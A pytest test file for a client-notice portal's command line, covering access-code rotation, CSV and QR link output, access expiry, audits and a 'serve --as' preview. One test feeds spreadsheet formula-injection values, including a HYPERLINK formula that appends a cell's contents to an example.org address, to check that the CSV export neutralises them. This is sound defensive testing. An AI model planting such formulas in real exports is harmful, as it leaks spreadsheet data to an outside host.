"""The life of access, through the command line: codes replaced, links handed out."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from portal import cli, config, sealing
from tests.commands import SECRET, build
from tests.conftest import NOW, REPOSITORY, PortalFolder

YUNSHAN = """\
name: 云杉贸易
contacts:
  - {id: lin, name: 林岚, email: lin@yunshan.example.com}
  - {id: zhao, name: 赵一, email: zhao@yunshan.example.com, language: en}
"""
HEYU = "name: 和煦\ncontacts: [{id: wang, name: 王二, email: wang@heyu.example.com}]\n"
PRIVATE = "title: 只给云杉\ndate: 2026-11-20\naudience: {clients: [yunshan]}"


@pytest.fixture
def portal(portal_folder: PortalFolder) -> PortalFolder:
    """Two clients, three contacts, one private notice."""
    portal_folder.client("yunshan", YUNSHAN)
    portal_folder.client("heyu", HEYU)
    portal_folder.notice("a", PRIVATE, "正文。\n")
    return portal_folder


def index_of(portal: PortalFolder, contact: str) -> str:
    """The file that the link of a contact opens."""
    printed = build(portal, "link", contact)
    assert printed.returncode == 0, printed.stderr
    return sealing.Code.parse(printed.stdout.strip().partition("#")[2]).index_name


def sealed(portal: PortalFolder) -> set[str]:
    return {file.name for file in (portal.root / "site/my/s").iterdir()}


def test_after_a_rotation_the_old_link_opens_nothing(portal: PortalFolder) -> None:
    """From the next build on the old index is gone and the new one is there; nobody else's changes."""
    assert build(portal, "build", "--now", NOW).returncode == 0
    before, old, other = sealed(portal), index_of(portal, "yunshan/lin"), index_of(portal, "yunshan/zhao")
    client = (portal.root / "clients/yunshan.yml").read_bytes()
    done = build(portal, "keys", "rotate", "yunshan/lin", secret=None)
    assert done.returncode == 0, done.stderr
    assert "yunshan/lin: a new code with the next build (epoch 2)" in done.stdout
    assert "commit clients/epochs.json" in done.stdout
    assert "build.py link yunshan/lin" in done.stdout
    assert (portal.root / "clients/yunshan.yml").read_bytes() == client
    new = index_of(portal, "yunshan/lin")
    assert new != old
    assert build(portal, "build", "--now", NOW).returncode == 0
    assert sealed(portal) == before - {old} | {new}
    assert other in before


def test_a_rotation_of_a_client_is_one_of_all_its_contacts(portal: PortalFolder) -> None:
    """CLIENT stands for every contact there, --all for everybody."""
    assert build(portal, "keys", "rotate", "yunshan").returncode == 0
    epochs = portal.root / "clients/epochs.json"
    assert json.loads(epochs.read_text("utf-8")) == {"yunshan/lin": 2, "yunshan/zhao": 2}
    assert build(portal, "keys", "rotate", "--all").returncode == 0
    assert json.loads(epochs.read_text("utf-8")) == {"heyu/wang": 2, "yunshan/lin": 3, "yunshan/zhao": 3}


@pytest.mark.parametrize(
    ("who", "said", "hint"),
    [
        (["yunshann"], "the registry has no client yunshann", "did you mean yunshan?"),
        (["yunshan/lim"], "the registry has no contact yunshan/lim", "did you mean yunshan/lin?"),
        (["yunshan/lin", "nobody/here"], "the registry has no contact nobody/here", "client/contact"),
        ([], "whose?", "--all"),
        (["yunshan", "--all"], "whose?", "--all"),
    ],
)
@pytest.mark.parametrize("command", [("keys", "rotate"), ("link",)])
def test_whom_the_registry_does_not_know_changes_nothing(
    portal: PortalFolder, command: tuple[str, ...], who: list[str], said: str, hint: str
) -> None:
    """The nearest name is offered, and not one epoch is raised, also where another name was right."""
    done = build(portal, *command, *who)
    assert (done.returncode, done.stdout) == (2, "")
    assert said in done.stderr
    assert hint in done.stderr
    assert not (portal.root / "clients/epochs.json").exists()


def test_a_registry_outside_of_the_portal_keeps_its_epochs_there(portal: PortalFolder) -> None:
    """`registry: ../registry`: the epochs are raised beside it."""
    portal.write("mkdocs.yml", (portal.root / "mkdocs.yml").read_text("utf-8") + "    registry: ../registry\n")
    (portal.root / "clients").rename(portal.root.parent / "registry")
    done = build(portal, "keys", "rotate", "heyu/wang")
    assert done.returncode == 0, done.stderr
    assert "commit ../registry/epochs.json" in done.stdout
    assert json.loads((portal.root.parent / "registry/epochs.json").read_text("utf-8")) == {"heyu/wang": 2}


def test_with_damaged_epochs_no_link_is_printed_and_nothing_is_built(portal: PortalFolder) -> None:
    """An epoch that cannot be read is not taken for 1: that would bring back a code taken away."""
    portal.write("clients/epochs.json", '{"yunshan/lin": 3, "yunshan/lin": 2}')
    linked = build(portal, "link", "yunshan/lin")
    assert (linked.returncode, linked.stdout) == (2, "")
    assert "epochs.json is damaged" in linked.stderr
    built = build(portal, "build", "--now", NOW)
    assert built.returncode == 1
    assert "clients/epochs.json:1:1: error epochs: " in built.stderr
    assert not (portal.root / "site").exists()


def test_links_for_a_mail_merge(portal: PortalFolder) -> None:
    """--csv gives a table with a row for everybody who has access; in CI without names, addresses and codes."""
    portal.client("gone", "name: 旧\nended: 2020-01-01\ncontacts: [{id: su, name: 苏, email: su@gone.example.com}]\n")
    printed = build(portal, "link", "--all", "--csv")
    assert printed.returncode == 0, printed.stderr
    rows = list(csv.reader(io.StringIO(printed.stdout.removeprefix("\ufeff"))))
    assert rows[0] == ["contact", "client name", "name", "email", "language", "link"]
    assert [row[:5] for row in rows[1:]] == [
        ["heyu/wang", "和煦", "王二", "wang@heyu.example.com", "zh"],
        ["yunshan/lin", "云杉贸易", "林岚", "lin@yunshan.example.com", "zh"],
        ["yunshan/zhao", "云杉贸易", "赵一", "zhao@yunshan.example.com", "en"],
    ]
    assert len({row[5] for row in rows[1:]}) == 3
    assert all(row[5].startswith("https://notices.example.com/my/#") for row in rows[1:])


def test_a_name_in_the_table_is_no_formula(portal: PortalFolder) -> None:
    """A spreadsheet would compute what begins like one; an address stays as mail needs it."""
    client = """name: '=HYPERLINK("https://example.org/?" & A1)'"""
    portal.client("sum", f'{client}\ncontacts: [{{id: su, name: "@SUM(1)", email: =su@sum.example.com}}]\n')
    printed = build(portal, "link", "sum", "--csv")
    assert printed.returncode == 0, printed.stderr
    _, row = csv.reader(io.StringIO(printed.stdout.removeprefix("\ufeff")))
    assert row[1:4] == ['\'=HYPERLINK("https://example.org/?" & A1)', "'@SUM(1)", "=su@sum.example.com"]


def test_a_link_as_a_qr_code(portal: PortalFolder) -> None:
    """--qr draws it for a phone, below the address."""
    plain, drawn = (build(portal, "link", "yunshan/lin", *more).stdout for more in ((), ("--qr",)))
    assert drawn.startswith(plain)
    assert len(drawn.removeprefix(plain).splitlines()) > 15
    assert "▄" in drawn
    assert SECRET not in drawn


def opened(portal: PortalFolder, contact: str) -> dict[str, Any]:
    """What the index of a contact says; the build must have made it."""
    code = sealing.code(config.Secret(bytes(range(40, 72))), contact, 1)
    _, text = sealing.unseal_index(code, (portal.root / "site/my/s" / code.index_name).read_bytes())
    return dict(json.loads(text))


FORMER = """\
name: 旧客户
since: 2020-01-01
ended: 2026-11-25
access_until: 2026-12-31
timezone: Pacific/Honolulu
contacts: [{id: su, name: 苏, email: su@old.example.com}]
"""


@pytest.mark.parametrize(
    ("now", "there"),
    [
        ("2026-12-31T23:59:59+08:00", True),
        ("2026-12-31T15:59:59Z", True),
        ("2027-01-01T00:00:00+08:00", False),
        ("2026-12-31T16:00:00Z", False),
        ("2026-12-31T06:00:01-10:00", False),
    ],
)
def test_access_ends_with_its_last_day_in_the_firms_zone(portal_folder: PortalFolder, now: str, there: bool) -> None:
    """Until midnight in Shanghai, wherever the client or the machine is; then the build takes the index away."""
    portal_folder.client("old", FORMER)
    assert build(portal_folder, "build", "--now", "2026-12-01T09:00+08:00").returncode == 0
    before = sealed(portal_folder)
    assert len(before) == 1
    assert build(portal_folder, "build", "--now", now).returncode == 0
    folder = portal_folder.root / "site/my/s"
    assert (sealed(portal_folder) if folder.exists() else set()) == (before if there else set())


def test_the_end_of_an_access_is_the_next_change(portal_folder: PortalFolder) -> None:
    """A job that runs by the hour knows when the index must go."""
    portal_folder.client("old", FORMER)
    printed = build(portal_folder, "next-change", "--now", "2026-12-31T12:00+08:00")
    assert printed.stdout.strip() == "2027-01-01T00:00:00+08:00"


def test_a_former_client_sees_what_concerns_it_until_then(portal_folder: PortalFolder) -> None:
    """What it was told as a client, and what is said to former clients; not what clients are told afterwards."""
    portal_folder.client("old", FORMER)
    portal_folder.client("heyu", HEYU)
    everyone = "audience: {clients: [old, heyu]}"
    portal_folder.notice("a-before", f"title: 之前\ndate: 2026-11-20\n{everyone}")
    portal_folder.notice("b-active", "title: 现客户\ndate: 2026-12-01\naudience: {status: [active]}")
    portal_folder.notice(
        "c-former", "title: 前客户\ndate: 2026-12-02\naudience: {status: [terminated], ended_within: 30d}"
    )
    assert build(portal_folder, "build", "--now", "2026-12-20T09:00+08:00").returncode == 0
    assert [sheet["id"] for sheet in opened(portal_folder, "old/su")["sheets"]] == ["c-former", "a-before"]
    assert [sheet["id"] for sheet in opened(portal_folder, "heyu/wang")["sheets"]] == ["b-active", "a-before"]


def test_a_removed_contact_is_gone_from_the_next_build(portal: PortalFolder) -> None:
    """The entry removed, the index is removed; the colleague's stays."""
    assert build(portal, "build", "--now", NOW).returncode == 0
    before, gone = sealed(portal), index_of(portal, "yunshan/lin")
    portal.client("yunshan", "\n".join(line for line in YUNSHAN.splitlines() if "lin," not in line) + "\n")
    assert build(portal, "build", "--now", NOW).returncode == 0
    assert gone in before
    assert gone not in sealed(portal)
    assert index_of(portal, "yunshan/zhao") in sealed(portal)


def test_a_newcomer_under_an_old_id_is_not_built_before_the_code_is_another(portal: PortalFolder) -> None:
    """The build names the id and the command; after that command the newcomer has a code of their own."""
    portal.commit("1")
    old = index_of(portal, "yunshan/lin")
    portal.client("yunshan", YUNSHAN.replace("林岚", "林小满").replace("lin@", "xiaoman@"))
    refused = build(portal, "build", "--now", NOW)
    assert refused.returncode == 1
    assert "clients/yunshan.yml:3:6: error reused-contact: " in refused.stderr
    assert "build.py keys rotate yunshan/lin" in refused.stderr
    assert "林" not in refused.stderr
    assert build(portal, "keys", "rotate", "yunshan/lin").returncode == 0
    assert build(portal, "build", "--now", NOW).returncode == 0
    assert old not in sealed(portal)


# --- audit -----------------------------------------------------------------------------------------------------


@pytest.fixture
def audited(portal: PortalFolder) -> PortalFolder:
    """A registry with a past: a contact removed, a code replaced, an address changed, clients that end."""
    portal.commit("first", at="2025-01-10T09:00+08:00")
    assert build(portal, "keys", "rotate", "heyu/wang").returncode == 0
    portal.commit("rotated", at="2026-03-01T09:00+08:00")
    portal.client("yunshan", YUNSHAN.replace("zhao@", "zhao.yi@"))
    portal.commit("another address", at="2026-04-01T09:00+08:00")
    portal.client("yunshan", YUNSHAN.replace("zhao@", "zhao.yi@").replace("  - {id: lin", "  # - {id: lin"))
    portal.client("old", FORMER)
    portal.client(
        "over", FORMER.replace("access_until: 2026-12-31", "access_until: 2026-12-01").replace("旧客户", "更旧")
    )
    portal.client("empty", "name: 空\n")
    portal.commit("more", at="2026-05-01T09:00+08:00")
    return portal


def test_audit_says_who_can_who_could_and_whose_access_ends(audited: PortalFolder) -> None:
    """Today with notices and versions, before with dates and commits; soon, former, old codes, nobody to use it."""
    done = build(audited, "audit", "--now", NOW, "--format", "json", secret=None)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    commits = audited.git("log", "--reverse", "--format=%H").split()
    assert report["history"] == "complete"
    assert {one["contact"]: (one["epoch"], one["last_day"], one["former"]) for one in report["access"]} == {
        "heyu/wang": (2, None, False),
        "old/su": (1, "2026-12-31", True),
        "yunshan/zhao": (1, None, False),
    }
    zhao = next(one for one in report["access"] if one["contact"] == "yunshan/zhao")
    assert zhao["notices"] == [{"id": "a", "versions": [1], "title": "只给云杉"}]
    assert zhao["since"] == {"at": "2025-01-10T01:00:00+00:00", "commit": commits[0]}
    assert (zhao["client"], zhao["name"], zhao["email"]) == ("云杉贸易", "赵一", "zhao.yi@yunshan.example.com")
    assert report["ending"] == ["old/su"]
    assert report["old_codes"] == ["yunshan/zhao"]
    assert report["without_contact"] == ["empty"]
    assert report["ended"] == {"over/su": "2026-12-01"}
    assert [(one["contact"], one["why"], one["opens"], one["until"]["commit"]) for one in report["past"]] == [
        ("yunshan/lin", "contact removed", False, commits[3]),
        ("yunshan/zhao", "name or address changed", True, commits[2]),
        ("heyu/wang", "code replaced", False, commits[1]),
    ]
    (reason,) = [one["reason"] for one in report["access"] if one["former"]]
    assert reason == "contract ends 2026-11-25; access until 2026-12-31 (access_until)"
    sooner = build(audited, "audit", "--now", NOW, "--within", "7d", "--format", "json")
    assert json.loads(sooner.stdout)["ending"] == []


def test_audit_in_words(audited: PortalFolder) -> None:
    """The same for people; what is not known is said."""
    said = build(audited, "audit", "--now", NOW).stdout
    assert "can open something today: 3" in said
    assert "      a v1  只给云杉" in said
    assert "  old/su: contract ends 2026-11-25; access until 2026-12-31 (access_until)" in said
    assert "yunshan/lin (林岚 <lin@yunshan.example.com>), epoch 1, from 2025-01-10 (" in said
    assert "name or address changed; this code still opens the pages" in said
    assert "who opened a page is not known" in said


@pytest.mark.parametrize("form", ["text", "json"])
def test_audit_in_ci_names_keys_only(audited: PortalFolder, form: str) -> None:
    """Ids stand in the log of a CI run, names, addresses and titles do not, unless they are asked for."""
    arguments = ("audit", "--now", NOW, "--format", form)
    hidden = build(audited, *arguments, CI="true").stdout
    assert "yunshan/zhao" in hidden
    for private in ("云杉", "赵一", "林岚", "example.com", "只给"):
        assert private not in hidden
        assert private in build(audited, *arguments, "--show-private", CI="true").stdout


def test_audit_says_when_it_does_not_know_the_past(portal: PortalFolder) -> None:
    """Without a repository, "before" is unknown, and it says so."""
    report = json.loads(build(portal, "audit", "--now", NOW, "--format", "json").stdout)
    assert (report["history"], report["past"], report["old_codes"]) == ("none", [], [])
    assert "'before' is unknown" in build(portal, "audit", "--now", NOW).stdout
    wrong = build(portal, "audit", "--within", "soon")
    assert (wrong.returncode, "--within soon" in wrong.stderr) == (2, True)


# --- serve --as ------------------------------------------------------------------------------------------------


def test_serving_as_a_contact_shows_what_that_contact_sees(portal: PortalFolder, tmp_path: Path) -> None:
    """The printed code opens their index and nobody else's; site/ is not touched, and all is gone at the end."""
    environment = {k: v for k, v in os.environ.items() if k not in {"PORTAL_SECRET", "CI"}} | {"TMPDIR": str(tmp_path)}
    command = [sys.executable, str(REPOSITORY / "build.py"), "serve", "--root", str(portal.root), "--port", "0"]
    server = subprocess.Popen(
        [*command, "--as", "yunshan/zhao", "--now", NOW], stdout=subprocess.PIPE, text=True, env=environment
    )
    try:
        assert server.stdout is not None
        printed = next(line for line in server.stdout if line.startswith("as yunshan/zhao: "))
        address, _, written = printed.split()[-1].partition("#")
        code = sealing.Code.parse(written)
        with urllib.request.urlopen(f"{address}s/{code.index_name}", timeout=10) as answer:
            _, text = sealing.unseal_index(code, answer.read())
        assert [sheet["id"] for sheet in json.loads(text)["sheets"]] == ["a"]
        assert json.loads(text)["contact"] == "赵一"
        assert list(tmp_path.glob("duenotice-*/site/build.json")) != []
    finally:
        server.send_signal(signal.SIGINT)
        assert server.wait(timeout=60) == 0
    assert list(tmp_path.glob("duenotice-*")) == []
    assert not (portal.root / "site").exists()
    assert not (portal.root / ".cache/duenotice/secret.fingerprint").exists()
    assert code.index_name != index_of(portal, "yunshan/zhao")


@pytest.mark.parametrize(
    ("who", "said"),
    [
        ("yunshan", "yunshan has several contacts"),
        ("yunshan/lim", "did you mean yunshan/lin?"),
        ("old/su", "the access of old/su ended on 2026-12-31"),
    ],
)
def test_serving_as_somebody_who_sees_nothing_says_why(
    portal: PortalFolder, capsys: pytest.CaptureFixture[str], who: str, said: str
) -> None:
    """Nobody, several, or somebody whose access is over at that moment."""
    portal.client("old", FORMER)
    arguments = ["serve", "--root", str(portal.root), "--as", who, "--now", "2027-01-01T00:00+08:00"]
    assert cli.main(arguments) == 2
    assert said in capsys.readouterr().err
